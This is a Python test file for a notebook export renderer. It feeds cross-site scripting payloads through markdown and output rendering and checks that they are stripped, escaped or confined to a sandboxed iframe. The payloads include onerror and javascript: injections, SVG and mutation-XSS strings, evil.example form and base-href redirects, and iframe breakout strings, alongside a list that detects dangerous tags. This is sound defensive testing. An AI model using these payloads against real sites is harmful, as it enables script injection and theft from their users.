"""The published/exported page's renderer on hostile input: markdown and outputs that
try to get script into the page itself, or out of their frame."""

from __future__ import annotations

import re
from typing import Any

import pytest

from cloudbook.export.markdown import render_markdown
from cloudbook.export.outputs import render_output
from cloudbook.export.page import render_page

MARKDOWN_ATTACKS = [
    '"><img src=x onerror=alert(1)>',
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=x></object><embed src=x><base href=https://evil.example/>",
    "<div style='position:fixed;inset:0'>cover</div>",
]


@pytest.mark.parametrize("source", MARKDOWN_ATTACKS)
def test_markdown_keeps_no_active_content(source: str) -> None:
    html = render_markdown(source).lower()
    for bad in (
        "<script",
        "<svg",
        "<iframe",
        "javascript:",
        "<style",
        "<form",
        "<object",
        "<embed",
        "<base",
        "onerror",
        "onload",
        "ontoggle",
        "style=",
        "data:text",
    ):
        assert bad not in html, (source, html)


def test_markdown_renders_what_writers_use() -> None:
    html = render_markdown(
        "# Title\n\n**bold** `code` ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "- [x] done\n\n<details><summary>more</summary>inside</details>\n\n"
        "![pic](data:image/png;base64,AAAA) [link](https://example.org)"
    )
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<del>gone</del>",
        "<table>",
        "<details>",
        "<summary>more</summary>",
        'src="data:image/png;base64,AAAA"',
        'href="https://example.org"',
        'rel="noopener noreferrer nofollow"',
        'type="checkbox"',
    ):
        assert part in html, (part, html)


def frame_docs(html: str) -> list[str]:
    import html as h

    return [h.unescape(m) for m in re.findall(r'srcdoc="([^"]*)"', html)]


@pytest.mark.parametrize(
    "payload",
    [
        '"></iframe><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        "&quot;><script>alert(1)</script>",
    ],
)
def test_an_active_output_cannot_leave_its_frame(payload: str) -> None:
    out = {"output_type": "display_data", "metadata": {}, "data": {"text/html": payload}}
    html = render_output(out)
    assert html.count("<iframe") == 1 and html.endswith("</iframe>")
    assert "<script>alert" not in html and 'sandbox="allow-scripts"' in html
    assert payload in frame_docs(html)[0]  # intact, inside the frame only


def test_javascript_output_runs_only_in_its_frame() -> None:
    js = "document.body.textContent = '</script><b>x</b>'"
    out = {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": js}}
    doc = frame_docs(render_output(out))[0]
    assert doc.count("</script>") == 2  # the frame's own size note, then this one
    assert "<\\/script><b>x<\\/b>" in doc


def test_text_outputs_are_escaped_and_ansi_is_stripped() -> None:
    outs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stderr", "text": ["\x1b[31m<script>x</script>\x1b[0m"]},
        {
            "output_type": "execute_result",
            "metadata": {},
            "execution_count": 1,
            "data": {"text/plain": "<img src=x onerror=alert(1)>"},
        },
        {
            "output_type": "error",
            "ename": "E",
            "evalue": "v",
            "traceback": ["\x1b[0;31mE\x1b[0m: <b>v</b>"],
        },
    ]
    html = "".join(render_output(o) for o in outs)
    assert "<script>" not in html and "<img" not in html and "<b>" not in html
    assert "\x1b" not in html and "&lt;script&gt;x&lt;/script&gt;" in html
    assert "E: &lt;b&gt;v&lt;/b&gt;" in html


def test_images_svg_widgets_and_the_static_form() -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    html = render_output(
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}}
    )
    assert html.startswith('<img class="output-image"') and "<svg" not in html  # never inline
    bad = render_output(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"image/png": 'AAAA" onerror="alert(1)'},
        }
    )
    assert "onerror" not in bad
    widget = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "m"},
            "text/plain": "IntSlider(value=3)",
        },
    }
    assert "IntSlider(value=3)" in render_output(widget) and "<iframe" not in render_output(widget)
    active = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "text/html": "<div id=plot></div><script>draw()</script>",
            "image/png": "AAAA",
            "text/plain": "<Figure>",
        },
    }
    assert "<iframe" in render_output(active)
    static = render_output(active, static=True)
    assert "<iframe" not in static and "data:image/png;base64,AAAA" in static


def test_static_page_has_no_script_at_all() -> None:
    nb = {
        "metadata": {},
        "cells": [
            {
                "cell_type": "code",
                "source": "x",
                "metadata": {},
                "execution_count": 1,
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "text/html": "<table><tr><td>cell</td></tr></table>"
                            "<script>bad()</script>"
                        },
                    },
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"application/javascript": "bad()", "text/plain": "js fallback"},
                    },
                ],
            }
        ],
    }
    page = render_page("n.ipynb", nb, static=True)
    assert "<script" not in page and "<iframe" not in page
    assert "<td>cell</td>" in page and "js fallback" in page
    assert "script-src" not in page and "default-src 'none'" in page


def test_pasted_images_in_markdown_cells() -> None:
    png = "iVBORw0KGgo="
    nb = {
        "metadata": {},
        "cells": [
            {
                "cell_type": "markdown",
                "metadata": {},
                "source": "![shot](attachment:shot.png) ![other](attachment:missing.png)",
                "attachments": {"shot.png": {"image/png": png}},
            }
        ],
    }
    page = render_page("n.ipynb", nb)
    assert f'src="data:image/png;base64,{png}"' in page
    assert "attachment:" not in page  # an unknown one is dropped by the sanitiser


def test_math_is_kept_out_of_markdown_and_drawn_as_mathml() -> None:
    html = render_markdown(
        "Inline $a*b*c_1$ and \\(x_1 * y_1\\); prices $5 or $10; `$HOME` stays.\n\n"
        "$$\n\\sum_{i=1}^n x_i * y_i\n$$\n\n$\\text{<img src=x onerror=alert(1)>}$ "
        "$\\unknowncommand{x}$"
    )
    assert "<em>" not in html  # the stars stayed math
    assert html.count('<span class="math">') == 4 and html.count('class="math display"') == 1
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">' in html
    assert "<msub><mi>c</mi><mn>1</mn></msub>" in html
    assert "prices $5 or $10;" in html and "<code>$HOME</code>" in html
    assert "<img" not in html and "onerror" not in html
